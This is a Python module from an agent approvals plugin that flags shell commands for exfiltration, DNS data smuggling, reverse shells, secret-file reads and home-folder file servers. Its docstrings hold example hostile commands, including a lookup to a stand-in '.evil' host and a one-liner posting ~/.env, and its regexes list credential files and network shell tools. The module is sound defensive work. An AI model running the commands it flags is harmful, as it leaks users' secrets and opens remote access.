"""Rules for what leaves the machine: uploads, data hidden in DNS lookups, reverse shells
and servers that publish the home folder.

Judged by class, not by example: any downloader that sends a file (``curl -T``, ``-d @f``,
``-F f=@x``, ``wget --post-file``, httpie's ``@file``) or the output of a command
(``-d "$(cat f)"``, a URL built with ``$(...)``) is asked about, as is a copy to another
host of a private file, a lookup whose name is computed (``dig $(base64 f).evil``), a
shell wired to a socket (``/dev/tcp``, ``nc -e``, ``socat exec:``, ``sh | nc``) and a
file server whose folder is the home, ``/`` or a system folder.
"""

from __future__ import annotations

import itertools
import os
import re

from hermes_plugin_approvals.shell import EXPANDED, SHELLS, SUBSTITUTED, Command
from hermes_plugin_approvals.targets import protected_target
from hermes_sdk.approvals import Level, Verdict

__all__ = [
    "SENSITIVE_READ",
    "check_exfiltration",
    "code_sends_secret",
    "reads_hermes_secret",
    "reads_secret",
    "serving_verdict",
]

SENSITIVE_READ = re.compile(
    r"(\.ssh/|(^|/)id_(rsa|dsa|ecdsa|ed25519)$|(^|/)\.env(\.(?!example$|sample$|template$|dist$)"
    r"\w+)?$|^/etc/(passwd|shadow|sudoers)|\.aws/|\.netrc$|\.git-credentials$|\.gnupg/|"
    r"(^|/)\.hermes(/|$)|\$\{?hermes_home\}?|/proc/[^/]+/environ$|(^|/)auth\.json$|"
    r"\.kube/config$|\.docker/config\.json$|\.pgpass$|\.npmrc$|\.pypirc$|\.config/gh/)",
    re.IGNORECASE,
)
"""Files whose contents are secrets: read by a command that also talks to the network,
they are asked about."""

_SENDERS = frozenset(
    {"curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "telnet"}
    | {"ftp", "sftp", "scp", "rsync", "ssh", "lwp-request", "aria2c", "openssl", "s3cmd"}
)
_LOOKUPS = frozenset(
    {"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "getent", "whois"}
    | {"resolvectl", "delv", "kdig", "tracepath", "mtr"}
)
_CURL_FILE_DATA = re.compile(r"^--(data|data-binary|data-urlencode|data-ascii|json)$")
_SOCKET = re.compile(r"^/dev/(tcp|udp)/")
_EXEC_ADDRESS = re.compile(r"^(exec|system):", re.IGNORECASE)
_NC_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})


def _computed(word: str) -> bool:
    return SUBSTITUTED in word or EXPANDED in word


def _curl_upload(args: list[str]) -> str:
    """Why this curl sends a file or a command's output; '' when it does not."""
    for at, arg in enumerate(args):
        value = args[at + 1] if at + 1 < len(args) else ""
        if arg in ("-T", "--upload-file") or (arg.startswith("-T") and len(arg) > 2):
            return "uploads a local file"
        if arg.startswith("--upload-file="):
            return "uploads a local file"
        data_option = arg in ("-d",) or bool(_CURL_FILE_DATA.match(arg.split("=", 1)[0]))
        if data_option:
            given = arg.split("=", 1)[1] if arg.startswith("--") and "=" in arg else value
            if given.startswith("@"):
                return "sends a local file"
        if arg.startswith("-d") and len(arg) > 2 and arg[2:].startswith("@"):
            return "sends a local file"
        if arg in ("-F", "--form") and ("=@" in value or "=<" in value):
            return "uploads a local file in a form"
    return ""


def _wget_upload(args: list[str]) -> str:
    for arg in args:
        if arg.split("=", 1)[0] in ("--post-file", "--body-file"):
            return "uploads a local file"
    return ""


def _httpie_upload(args: list[str]) -> str:
    for arg in args:
        if arg.startswith("@") or re.match(r"^[^=:@\s]+(=@|@)[^@]", arg):
            return "sends a local file"
    return ""


def _remote_path(word: str) -> bool:
    """``host:path`` or ``user@host:path`` (scp, rsync), not ``C:\\`` nor a URL."""
    return bool(re.match(r"^[\w.@-]+:", word)) and "://" not in word


_SSH_VALUED = frozenset({"-i", "-F", "-o", "-J", "-P", "-p", "-e", "-c", "-l", "-S", "-B"})
"""Options of scp, sftp and rsync whose value is not a file they copy (a key, a config)."""


def _copies_out_secret(command: Command) -> bool:
    operands: list[str] = []
    rest = list(command.args)
    while rest:
        arg = rest.pop(0)
        if arg in _SSH_VALUED and rest:
            rest.pop(0)
        elif not arg.startswith("-"):
            operands.append(arg)
    if len(operands) < 2 or not _remote_path(operands[-1]):
        return False
    sources = [s for s in operands[:-1] if not _remote_path(s)]
    return any(SENSITIVE_READ.search(s) or protected_target(s) for s in sources)


def _upload(command: Command) -> str:
    name, args = command.name, command.args
    if name == "curl":
        return _curl_upload(args)
    if name == "wget":
        return _wget_upload(args)
    if name in ("http", "https", "xh"):
        return _httpie_upload(args)
    if name in ("scp", "rsync", "sftp") and _copies_out_secret(command):
        return "copies a private file or your home to another host"
    raw = name in ("nc", "ncat", "netcat", "socat", "telnet")
    if raw and any(op == "<" for op, _ in command.redirects):
        return "sends a local file over a raw connection"
    return ""


_LOOPBACK_URL = re.compile(r"^(\w+://)?(localhost|127\.\d+\.\d+\.\d+|\[::1\])([:/]|$)")


def _to_this_machine(args: list[str]) -> bool:
    """Every address it names is this machine's (``http://localhost:8000/api``)."""
    urls = [a for a in args if "://" in a or a.startswith(("localhost", "127."))]
    return bool(urls) and all(_LOOPBACK_URL.match(u) for u in urls)


_MAILERS = frozenset({"mail", "mailx", "sendmail", "mutt", "neomutt", "msmtp", "swaks"})
_CLOUD_COPY = re.compile(r"^(cp|mv|sync|put|upload|copy|copyto|move|rsync)$")


def _sends_secret_elsewhere(command: Command) -> bool:
    """A private file handed to a program that sends it somewhere: a mailer, a gist, a
    cloud copy, a container's environment or mount."""
    name, args = command.name, command.args
    if name in ("docker", "podman", "nerdctl"):  # a private folder mounted into a container
        mounts = [b for a, b in itertools.pairwise(args) if a in ("-v", "--volume")]
        mounts += [a.split("=", 1)[1] for a in args if a.startswith("--volume=")]
        return any(SENSITIVE_READ.search(m.split(":", 1)[0].rstrip("/") + "/") for m in mounts)
    secret = [a for a in args if SENSITIVE_READ.search(a.split("=", 1)[-1])]
    secret += [t for op, t in command.redirects if op == "<" and SENSITIVE_READ.search(t)]
    if not secret:
        return False
    if name in _MAILERS:
        return True
    operands = [a for a in args if not a.startswith("-")]
    if name == "gh" and operands[:1] in (["gist"], ["release"], ["issue"], ["pr"]):
        return True
    if name in ("aws", "gsutil", "rclone", "s3cmd", "az", "gcloud", "azcopy"):
        return any(_CLOUD_COPY.match(o) for o in operands[:3])
    return False


def check_exfiltration(
    command: Command, hermes_home: str = "", here: str | None = None
) -> Verdict | None:
    """``hermes_home`` is the home's real path (its secrets are known by it too); ``here``
    where the line's ``cd`` went, for relative paths."""
    name, args = command.name, command.args
    if reads_hermes_secret(command, hermes_home, here):
        return Verdict(
            Level.ASK,
            "reads-hermes-secrets",
            "reads Hermes's own secrets (its .env, auth.json, state, a process's environment)",
        )
    if code_sends_secret(command):
        return Verdict(Level.ASK, "upload", "runs code that sends a private file over the network")
    if _sends_secret_elsewhere(command):
        return Verdict(Level.ASK, "upload", "sends a private file (keys, .env) elsewhere")
    private = any(SENSITIVE_READ.search(re.sub(r"^[^@<]*[@<]", "", a)) for a in args)
    if name in _SENDERS and _to_this_machine(args) and not private:
        return None  # to a service on this machine (a local API, a dev server)
    if name in _SENDERS:
        if why := _upload(command):
            return Verdict(Level.ASK, "upload", f"{why} over the network")
        if name not in ("ssh", "rsync", "scp", "sftp") and any(_computed(a) for a in args):
            return Verdict(Level.ASK, "upload", "sends the output of a command over the network")
    if name in _LOOKUPS and any(SUBSTITUTED in a for a in args):
        return Verdict(
            Level.ASK,
            "dns-exfiltration",
            "looks up a name built from a command's output (data hidden in DNS)",
        )
    if any(_SOCKET.match(target) for _, target in command.redirects):
        shell = name in SHELLS or name in ("exec", ":", "")
        return Verdict(
            Level.ASK,
            "reverse-shell" if shell else "raw-socket",
            "wires a shell to a network socket (a reverse shell)"
            if shell
            else "opens a network connection through /dev/tcp",
        )
    if name == "ssh" and any(
        a.startswith("-R") or (a.startswith("-") and not a.startswith("--") and "R" in a[1:])
        or a.lower().startswith("remoteforward")
        for a in args
    ):  # fmt: skip
        return Verdict(
            Level.ASK, "reverse-tunnel", "opens a way from another host into this machine"
        )
    if name == "socat" and any(_EXEC_ADDRESS.match(a) for a in args):
        return Verdict(Level.ASK, "reverse-shell", "runs a program on a network socket")
    if name in ("nc", "ncat", "netcat") and any(a in _NC_EXEC for a in args):
        return Verdict(Level.ASK, "reverse-shell", "runs a program on a network socket")
    if name in _SENDERS and any(p.name in SHELLS for p in command.fed_by):
        return Verdict(Level.ASK, "reverse-shell", "sends a shell's output to the network")
    return None


_NETWORK_CODE = re.compile(
    r"\b(requests|urllib|http\.client|httpx|aiohttp|socket|fetch|XMLHttpRequest|net\.|"
    r"https?\.request|Net::HTTP|open-uri|LWP|IO::Socket|curl_exec|fsockopen|smtplib)\b"
)


def code_sends_secret(command: Command) -> bool:
    """An interpreter's code that names a private file and talks to the network (``python
    -c "requests.post(u, data=open('~/.env').read())"``)."""
    texts = command.code or [a for a in command.args if len(a) > 20]
    return any(SENSITIVE_READ.search(t) and _NETWORK_CODE.search(t) for t in texts)


_SECRETS_OF_HERMES = re.compile(
    r"((^|/)\.hermes/(.+/)?|\$\{?hermes_home\}?/)(\.env|auth\.json|state\.db)$|"
    r"^/proc/[^/]+/(task/[^/]+/)?environ$",
    re.IGNORECASE,
)


_HERMES_FOLDER = re.compile(r"((^|/)\.hermes|\$\{?hermes_home\}?)/?$", re.IGNORECASE)
_COPIERS = frozenset({"cp", "rsync", "tar", "bsdtar", "zip", "7z", "7za", "scp", "rclone"})


_SECRET_FILES = frozenset({".env", "auth.json", "state.db"})


def _in_own_home(word: str, home: str, whole: bool, here: str | None = None) -> bool:
    """Whether ``word`` is the home itself (``whole``) or one of its secret files, by the
    home's real path: a home that is not ``~/.hermes`` is found too, and a relative path
    where the line went (``cd`` into the home) as well."""
    if not home:
        return False
    if not word.startswith(("/", "~")):
        if not here or not here.startswith(("/", "~")):
            return False
        word = os.path.join(here, word)
    path = os.path.normpath(os.path.expanduser(word))
    if whole:
        return path == home
    name = os.path.basename(path)
    secret = name in _SECRET_FILES or name.startswith(".env.") or "*" in name or "?" in name
    return path.startswith(home + os.sep) and secret  # a profile's too, and globs there


def reads_hermes_secret(command: Command, hermes_home: str = "", here: str | None = None) -> bool:
    """It reads Hermes's own secrets (``cat ~/.hermes/.env``, ``base64 auth.json``,
    ``/proc/$PPID/environ``, the same files by the home's real path) or copies its whole
    home (``cp -r ~/.hermes /tmp``): the file tools refuse them, the terminal asks."""
    if command.name in _NOT_READERS:
        return False
    words = [a for a in command.args if not a.startswith("-")]
    words += [t for op, t in command.redirects if op == "<"]
    home = os.path.normpath(hermes_home) if hermes_home else ""
    if command.name in _COPIERS and any(
        _HERMES_FOLDER.search(w) or _in_own_home(w, home, whole=True, here=here) for w in words
    ):
        return True
    return any(
        _SECRETS_OF_HERMES.search(w) or _in_own_home(w, home, whole=False, here=here) for w in words
    )


_NOT_READERS = frozenset(
    {"echo", "printf", "ls", "cd", "test", "[", "stat", "touch", "mkdir", "chmod", "chown"}
    | {"chgrp", "rm", "file", "source", ".", "export", "which", "type", "realpath", "readlink"}
)


def reads_secret(command: Command) -> bool:
    """Whether this command reads a file whose contents are secrets (its arguments or
    input redirect name one)."""
    if command.name in _NOT_READERS:
        return False
    words = [a for a in command.args if not a.startswith("-")]
    words += [t for op, t in command.redirects if op == "<"]
    return any(SENSITIVE_READ.search(word) for word in words)


_SERVERS = {"http-server": "", "serve": "", "updog": "-d", "caddy": "--root"}


def _served_folder(command: Command) -> tuple[bool, str]:
    """(whether it serves files over HTTP, the folder when it says which)."""
    name, args = command.name, command.args
    module = args[args.index("-m") + 1] if "-m" in args[:-1] else ""
    if re.match(r"^(python|pypy)[0-9.]*$", name) and module in ("http.server", "simplehttpserver"):
        for at, arg in enumerate(args):
            if arg in ("-d", "--directory") and at + 1 < len(args):
                return True, args[at + 1]
            if arg.startswith("--directory="):
                return True, arg.split("=", 1)[1]
        return True, ""
    if re.match(r"^php[0-9.]*$", name) and "-S" in args:
        return True, args[args.index("-t") + 1] if "-t" in args[:-1] else ""
    if name == "ruby" and any(a in ("-run", "-rwebrick") for a in args):
        rest = [a for a in args if not a.startswith("-") and a != "httpd"]
        return any("httpd" in a for a in args), rest[-1] if rest else ""
    if name == "httpd" and "-h" in args[:-1]:
        return True, args[args.index("-h") + 1]
    if name in ("npx", "http-server", "serve", "updog", "caddy"):
        words = args[1:] if name == "npx" and args else args
        server = args[0] if name == "npx" and args else name
        if server not in _SERVERS:
            return False, ""
        option = _SERVERS[server]
        if option and option in words[:-1]:
            return True, words[words.index(option) + 1]
        plain = [w for w in words if not w.startswith("-") and not w.isdigit()]
        return True, plain[0] if plain and server in ("http-server", "serve") else ""
    return False, ""


def serving_verdict(command: Command, here: str | None) -> Verdict | None:
    """A file server publishing the home, ``/`` or a system folder (named, or where a
    ``cd`` earlier in the line took it)."""
    serves, folder = _served_folder(command)
    if not serves:
        return None
    where = folder or here or ""
    if where and (protected_target(where) or SENSITIVE_READ.search(where.rstrip("/") + "/")):
        return Verdict(
            Level.ASK,
            "serves-home",
            f"serves {where} (your home, / or a system folder) to the network",
        )
    return None
